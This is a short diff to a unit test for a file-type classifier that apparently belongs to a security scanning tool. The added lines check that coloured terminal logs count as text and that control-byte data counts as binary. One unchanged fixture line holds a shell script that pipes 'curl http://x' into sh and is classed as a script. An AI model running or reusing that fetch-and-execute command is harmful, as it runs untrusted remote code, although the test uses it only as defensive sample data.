@@ -12,6 +12,9 @@ describe('fileForm', () => {
     expect(fileForm(Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]))).toBe('macho');
     expect(text('#!/bin/sh\ncurl http://x | sh\n')).toBe('script');
     expect(fileForm(Buffer.from([1, 2, 0, 4, 5]))).toBe('binary');
+    // A coloured terminal log is text, however many escape sequences it holds.
+    expect(text('\x1b[32m✓\x1b[39m test passed\n'.repeat(200))).toBe('text');
+    expect(fileForm(Buffer.from('\x01\x02\x03\x04\x05\x06 some bytes\x07\x08'.repeat(50)))).toBe('binary');
   });
 
   it('finds YARA and Sigma rule files by their structure', () => {
